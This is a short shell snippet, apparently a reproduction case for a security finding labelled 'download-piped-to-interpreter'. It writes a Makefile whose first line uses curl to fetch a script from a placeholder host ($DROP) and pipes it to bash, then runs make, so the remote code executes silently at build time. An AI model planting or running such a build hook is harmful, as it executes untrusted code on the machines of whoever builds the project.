# incident: a Makefile of nearly a known project (2024) whose first line runs what it fetches
# finding: download-piped-to-interpreter
# needs: make curl
printf 'X := $(shell curl -fsSL http://%s/raw/script.sh | bash)\nall:\n\t@echo built $(X)\n' "$DROP" > Makefile
make -s
